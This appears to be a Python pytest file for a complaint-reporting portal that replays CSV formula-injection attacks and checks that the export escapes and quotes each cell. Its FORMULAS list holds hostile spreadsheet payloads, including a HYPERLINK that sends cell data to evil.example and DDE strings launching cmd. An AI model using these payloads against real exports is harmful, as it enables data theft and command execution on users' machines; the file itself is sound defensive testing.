"""Security round 2 (issue #13): each attack found on the running portal, replayed.

Every test here sends what the attacker sent and states what the portal must do
instead; each failed before its fix.
"""

from __future__ import annotations

import csv
import io

import pytest

from app import create_app
from portal.csv_export import export_csv, neutralise_cell
from portal.storage import staff as staff_store
from portal.storage.db import connect

PASSWORD = "senha-muito-segura-2026"


@pytest.fixture()
def app(tmp_path, index_dir):
    return create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "WTF_CSRF_ENABLED": False})


def _staff(app, username: str = "fiscal") -> None:
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    staff_store.create_user(db, username, PASSWORD)
    db.conn.close()


def _login(client, username: str = "fiscal"):
    response = client.post("/admin/entrar", data={"usuario": username, "senha": PASSWORD})
    assert response.status_code == 303
    return response


# -- High: formula injection in the CSV export ---------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
    '@SUM(1+9)*cmd|"/C calc"!A0',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def test_csv_export_neutralises_every_formula_cell(app):
    client = app.test_client()
    protocols = []
    for text in FORMULAS:
        body = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["outro"], "jurisdicao": "pe", "relato": "relato " + text,
                "origem": text, "destino": text}
        response = client.post("/api/v1/denuncias", json=body)
        assert response.status_code == 201, response.get_json()
        protocols.append(response.get_json()["protocolo"])
    _staff(app)
    _login(client)
    export = client.get("/admin/exportar.csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    text = export.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["protocolo"] for r in rows] == protocols
    for row in rows:
        for name, cell in row.items():
            first = cell.lstrip(" \u00a0\u3000")[:1]
            assert first not in set("=+-@\t\r\n＝＋－＠"), (name, cell)
    # The text is kept after the quote (the parser trims blanks at the ends), so staff still read what was typed.
    stripped = [text.strip() for text in FORMULAS]
    assert [r["origem"] for r in rows] == ["'" + s for s in stripped]
    # Every cell is quoted (RFC 4180), so a comma or a line break cannot open a new cell.
    for line in text.splitlines()[:2]:
        assert line.startswith('"') and line.endswith('"')


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+55 81 9999", "'+55 81 9999"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    (" =x", "' =x"), ("＠x", "'＠x"), ("a=b", "a=b"), ("", ""), (None, ""), (3, "3"), ("'=x", "'=x"),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_export_csv_quotes_every_cell_and_escapes_quotes():
    body = export_csv([{"a": 'x","=cmd', "b": "linha\nnova"}], ["a", "b"])
    assert body == '"a","b"\r\n"x"",""=cmd","linha\nnova"\r\n'
    assert list(csv.reader(io.StringIO(body))) == [["a", "b"], ['x","=cmd', "linha\nnova"]]
